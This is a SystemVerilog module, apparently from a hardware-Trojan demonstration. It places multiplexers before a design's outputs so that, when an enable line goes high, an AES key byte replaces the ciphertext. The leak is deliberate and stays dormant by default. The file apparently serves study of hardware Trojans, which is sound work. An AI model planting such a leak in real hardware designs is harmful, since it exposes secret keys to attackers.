// Barrier gates: a bank of 2:1 multiplexers placed between the last
// register of the original design and its primary outputs.
//
// Input I0 (orig_i) carries the original output, for the AES case the cipher
// text; input I1 (leak_i) carries the secret to be leaked, the key byte. While
// the select line sel_i is low, or left unconnected (which reads low), the
// bank behaves as a set of buffers and the outputs are those of the original
// design. With sel_i high the outputs carry leak_i instead.
//
// Purely combinational: no clock, zero cycles of latency. The default width
// of eight multiplexers and the I0/I1 assignment follow the AES example;
// the width is a parameter so the same block serves the one-bit AND-gate
// demonstration.
module barrier_gates #(
  parameter int unsigned WIDTH = 8
) (
  input  logic [WIDTH-1:0] orig_i,  // I0: original output
  input  logic [WIDTH-1:0] leak_i,  // I1: secret to leak
  input  logic             sel_i,   // S : Trojan enable
  output logic [WIDTH-1:0] out_o    // to the primary outputs
);

  always_comb begin
    for (int unsigned i = 0; i < WIDTH; i++) begin
      out_o[i] = sel_i ? leak_i[i] : orig_i[i];
    end
  end

endmodule
